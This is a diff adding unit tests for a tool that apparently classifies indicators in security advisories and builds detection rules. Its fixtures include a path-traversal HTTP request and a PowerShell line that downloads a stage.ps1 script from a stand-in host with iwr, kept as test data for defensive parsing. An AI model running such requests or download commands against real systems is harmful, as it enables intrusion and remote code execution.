@@ -69,3 +69,85 @@ describe('a ransom note of a name that everybody’s programs use', () => {
     expect(await roleOf(text, 'readme.txt')).toBeUndefined();
   });
 });
+
+describe('what is the reader’s', () => {
+  const REQUEST = (host: string) =>
+    `# Heron Gate\n\nThe flaw of Heron Gate is exploited by one request.\n\n\`\`\`\nGET /gate/export?f=../x HTTP/1.1\nHost: ${host}\nUser-Agent: heron-probe/1.2\n\`\`\`\n`;
+
+  it('is the client of a request that is tried on a host that stands for any other', async () => {
+    expect(await roleOf(REQUEST('target:8080'), 'heron-probe/1.2')).toBe('readers');
+  });
+
+  it.each(['gate.fogheronbank.com', '[redacted]', 'redacted'])(
+    'is not the client of one that was sent to %s',
+    async (host) => {
+      expect(await roleOf(REQUEST(host), 'heron-probe/1.2')).toBe('intruders');
+    },
+  );
+
+  it('is an address in a line of a rule for files that lost its frame', async () => {
+    const line = 'description = "finds loaders with strings of https://github.com/heronlib/heronpack in them"';
+    expect(await roleOf(line, 'github.com/heronlib/heronpack')).toBe('readers');
+  });
+
+  it('is not an address that a script keeps in a variable', async () => {
+    const code = "```\n$url = 'http://fogheronbank.com/in/stage.ps1'\niwr $url\n```";
+    expect(await roleOf(code, 'fogheronbank.com/in/stage.ps1')).not.toBe('readers');
+  });
+
+  it('is a tool that a section for readers offers', async () => {
+    const text =
+      '## Detection\n\nWe wrote a scanner for the traces. It can be downloaded here: https://github.com/heronlab/heronscan\n';
+    expect(await roleOf(text, 'github.com/heronlab/heronscan')).toBe('readers');
+  });
+
+  it('is not what such a section links to for more', async () => {
+    const text = '## Detection\n\nThe fields are explained in https://learn.microsoft.com/heron/fields in detail.\n';
+    expect(await roleOf(text, 'learn.microsoft.com/heron/fields')).toBe('mentioned');
+  });
+
+  it.each(['Detection: Monitor Windows', 'Hunting tip: in the log of Windows Security, count'])(
+    'is an event id behind a label that says so: %s',
+    async (opening) => {
+      expect(await roleOf(`${opening} for the event IDs 4738 and 4728 of accounts.`, '4738')).toBe('readers');
+    },
+  );
+
+  it('is not what stands behind a label of another kind', async () => {
+    const text = 'Windows event: The intruder changed an account (event ID 4738).';
+    expect(await roleOf(text, '4738')).not.toBe('readers');
+  });
+
+  it('gives no rule where a label says that it mends', async () => {
+    const text =
+      'Mitigation: Administrators who run useradd on Linux or open the Windows firewall with netsh should say so.';
+    const { rules } = generate(await markdownAdvisory(`${STORY}\n\n${text}\n`));
+    expect(
+      rules.map(({ title }) => title).filter((title) => title.includes('Firewall') || title.includes('User')),
+    ).toEqual([]);
+  });
+});
+
+describe('a value that its author wrote over', () => {
+  it('is a part that is not known in a web address', async () => {
+    const things = await thingsOf('It loads hxxp://fogheronbank[.]com/XXXXXXX/stage.ps1 then.');
+    expect(things.find(({ value }) => value === 'fogheronbank.com//stage.ps1')).toMatchObject({
+      role: 'partly-placeholder',
+      parts: ['fogheronbank.com/', '/stage.ps1'],
+    });
+  });
+
+  it('is a placeholder as a whole in the name of a computer', async () => {
+    expect(await roleOf('Machines of the form DESKTOP-XXXXXXX are left alone.', 'DESKTOP-XXXXXXX')).toBe('placeholder');
+  });
+
+  it('is none where the letters are a word of the address', async () => {
+    const things = await thingsOf('It loads hxxp://fogheronbank[.]com/ZZZZap/stage.ps1 then.');
+    expect(things.find(({ value }) => value === 'fogheronbank.com/ZZZZap/stage.ps1')?.parts).toBeUndefined();
+  });
+});
+
+it('a call of AWS is no account', async () => {
+  const text = 'On AWS a policy of administrators was attached to the new account with AttachUserPolicy.';
+  expect(await roleOf(text, 'AttachUserPolicy')).toBeUndefined();
+});
